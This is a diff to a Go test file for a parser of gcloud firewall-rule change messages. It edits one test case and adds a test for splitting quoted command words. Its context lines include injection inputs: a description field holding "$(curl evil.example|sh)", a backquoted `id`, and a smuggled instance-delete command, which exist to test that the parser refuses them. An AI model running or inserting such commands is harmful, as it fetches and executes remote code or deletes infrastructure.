@@ -37,7 +37,7 @@ func TestParseFirewallChange(t *testing.T) {
 		{name: "another command", msg: "Firewall change required by security admin: `gcloud compute instances delete fw --project host-project`"},
 		{name: "shell expansion in the description", msg: "Firewall change required by security admin: `gcloud compute firewall-rules create fw --network vpc --description \"$(curl evil.example|sh)\" --allow tcp:80 --source-ranges 35.191.0.0/16 --target-tags gke-node --project host-project`"},
 		{name: "backquotes in the description", msg: "Firewall change required by security admin: `gcloud compute firewall-rules create fw --network vpc --description \"x`id`\" --allow tcp:80 --source-ranges 35.191.0.0/16 --target-tags gke-node --project host-project`"},
-		{name: "unterminated quote", msg: "Firewall change required by security admin: `gcloud compute firewall-rules create fw --network vpc --description \"open --allow tcp:80 --source-ranges 0.0.0.0/0 --project host-project`"},
+		{name: "unterminated quote", msg: "Firewall change required by security admin: `gcloud compute firewall-rules create fw --network vpc --description \"open --allow tcp:80 --source-ranges 0.0.0.0/0 --target-tags gke-node --project host-project`"},
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
@@ -59,5 +59,28 @@ func TestParseFirewallChange(t *testing.T) {
 				t.Errorf("Command()\n%s\nwant\n%s", got.Command(), want)
 			}
 		})
+	}
+}
+
+// TestSplitCommand: words split on spaces, a quoted word kept whole with
+// its quotes (spaces and escaped quotes inside), an unterminated quote
+// refused.
+func TestSplitCommand(t *testing.T) {
+	t.Parallel()
+	for _, tc := range []struct {
+		in   string
+		want []string
+		ok   bool
+	}{
+		{`a  b c `, []string{"a", "b", "c"}, true},
+		{`--description "two words" --x`, []string{"--description", `"two words"`, "--x"}, true},
+		{`--description "say \"hi\" now" y`, []string{"--description", `"say \"hi\" now"`, "y"}, true},
+		{`--description "open --allow tcp:80`, nil, false},
+		{`--description "ends in a backslash\"`, nil, false},
+	} {
+		got, ok := splitCommand(tc.in)
+		if ok != tc.ok || !slices.Equal(got, tc.want) {
+			t.Errorf("splitCommand(%q) = %q, %v; want %q, %v", tc.in, got, ok, tc.want, tc.ok)
+		}
 	}
 }
